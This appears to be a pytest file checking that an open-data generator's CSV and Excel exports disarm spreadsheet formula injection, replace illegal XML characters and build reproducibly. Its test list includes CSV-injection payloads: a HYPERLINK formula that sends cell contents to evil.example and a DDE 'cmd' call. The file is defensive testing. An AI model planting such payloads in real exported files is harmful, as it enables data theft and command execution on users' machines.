"""Texts that would harm a spreadsheet, a program or a writer come out harmless, and the same in two builds."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from generator.records.fields import HANOI
from generator.records.plan import Plan
from generator.views.opendata.sheet import LONGEST
from generator.views.opendata.tables import Column, Table
from generator.views.opendata.workbook import sheet_names, workbook
from generator.views.spreadsheets import csv_file
from tests.opendata.conftest import Made, made

ARMED = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(A1:A9)", "+84 24 3000 0000", "-2+3", "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\u00a0=1", '"=1+1', "'=1+1",
    "\u201c=1", "\uff1d1+1", "\uff20SUM(A1)", "=cmd|'/c calc'!A0", "\ufeff=1", "- gạch đầu dòng", "\x0b=1", "\tchữ"]
SAFE = ["Nguyễn Văn Đức", 'ông "Ba"', "a;b", "một\nhai", "1=1", "a@b", "12-3", "", "'", "quý I–II", "x" * 40_000, "_x000D_ và _x0041_", "<b>&amp;</b>]]>", "\U0001f3c5"]
ILLEGAL = ["a\x00b", "a\x08b", "a\ud800b", "a\ufffeb"]


def column(name: str, kind: str = "line") -> Column:
    return Column(name, kind, (name, name), ("", ""), lambda item: item)


def cells(values: list) -> list:
    """The values after a workbook was written and read."""
    table = Table("t", "t", ("T", "T"), (), (column("id"),), (column("value"),))
    book = openpyxl.load_workbook(BytesIO(workbook("t", [], [table], lambda _: [[str(n), value] for n, value in enumerate(values)])))
    rows = list(book["t"].iter_rows(min_row=2))
    assert not [cell for row in rows for cell in row if cell.data_type == "f" or cell.hyperlink]
    return [unescape(row[1].value) if isinstance(row[1].value, str) else row[1].value for row in rows]  # openpyxl reads _x005F_ as it stands


@pytest.mark.parametrize("text", ARMED)
def test_a_text_that_would_be_a_formula_is_disarmed_and_can_be_read_back(text: str):
    assert list(csv.reader(StringIO(csv_file(["a"], [[text]]).decode("utf-8-sig"), newline=""))) == [["a"], [f"'{text}"]]


@pytest.mark.parametrize("text", SAFE)
def test_every_other_text_is_as_it_was(text: str):
    rows = list(csv.reader(StringIO(csv_file(["a", "b"], [[text, "x"]]).decode("utf-8-sig"), newline="")))
    assert rows == [["a", "b"], [text, "x"]]


def test_numbers_stay_numbers():
    raw = csv_file(["a"], [[-5], [Decimal("-0.5")], [12.5], [True], [None], [date(2026, 9, 2)], [datetime(2026, 9, 2, 8, tzinfo=HANOI)]])
    assert raw.decode("utf-8-sig").split("\r\n")[1:-1] == ['"-5"', '"-0.5"', '"12.5"', '"true"', '""', '"2026-09-02"', '"2026-09-02T08:00:00+07:00"']
    assert cells([-5, Decimal("-0.5"), True, date(2026, 9, 2), datetime(2026, 9, 2, 8, tzinfo=HANOI)]) == [
        -5, -0.5, True, datetime(2026, 9, 2), datetime(2026, 9, 2, 8)]


def test_a_workbook_holds_texts_and_no_formulas():
    texts = [text for text in (*ARMED, *SAFE) if text and "\r" not in text and "\x0b" not in text and len(text) < LONGEST]
    assert cells(texts) == texts
    assert cells(["\r=1+1"])[0].endswith("=1+1")


def test_what_xml_cannot_hold_is_replaced_and_what_is_too_long_is_cut():
    assert cells(ILLEGAL) == ["a\ufffdb"] * 4
    [text] = cells(["ă" * 40_000])
    assert len(text) == LONGEST and text.startswith("ăăă") and text.endswith("… (JSON, CSV)")
    assert csv_file(["a"], [["a\ud800b"]]), "no byte of it raises"


def test_days_before_spreadsheets_begin_are_texts():
    assert cells([date(1890, 5, 19), date(1900, 2, 28), date(1945, 9, 2)]) == ["1890-05-19", "1900-02-28", datetime(1945, 9, 2)]


def test_sheets_of_long_names_have_names_of_their_own():
    long = [Table(f"a-very-long-collection-{n}-with-a-list-in-a-list", "x", ("", ""), (), (), ()) for n in range(3)]
    names = sheet_names([*long, Table("columns", "x", ("", ""), (), (), ())]).values()
    assert len({name.lower() for name in names}) == 4 and all(0 < len(name) <= 31 for name in names) and "columns" not in names


def test_hostile_records_come_through_every_writer(data: Made, tmp_path):
    plan = next(record for record in data.catalog.of("plan") if isinstance(record, Plan) and record.tasks)
    evil = '=HYPERLINK("x")\r\n<script>\U0001f3c5' + "x" * 33_000
    title = plan.title.model_copy(update={"vi": evil, "en": "@SUM(1)\t"})
    bad = plan.model_copy(update={"title": title, "digest": "other", "summary": plan.title.model_copy(update={"vi": "a\x00\x0b"})})
    records = {**data.catalog.records, "plan": {**data.catalog.records["plan"], plan.id: bad}}
    found = made(data.catalog.showing(records), datetime(2026, 12, 1, tzinfo=HANOI), tmp_path)
    assert json.loads((found.folder / f"api/v1/plans/{plan.id}.json").read_bytes())["title"] == {"vi": evil, "en": "@SUM(1)\t"}
    book = openpyxl.load_workbook(found.folder / "data/plans.xlsx")
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert b'"\'=HYPERLINK' in (found.folder / "data/plans.csv").read_bytes() and b'"\'@SUM(1)' in (found.folder / "data/plans.csv").read_bytes()


def test_two_builds_are_the_same_bytes(data: Made, tmp_path):
    again = made(data.catalog, datetime(2026, 12, 1, tzinfo=HANOI), tmp_path)
    for path in sorted(path.relative_to(data.folder) for path in data.folder.rglob("*") if path.is_file()):
        if "statistics" not in path.parts and path.name not in ("datapackage.json", "catalog.jsonld"):  # those know the day
            assert (again.folder / path).read_bytes() == (data.folder / path).read_bytes(), path
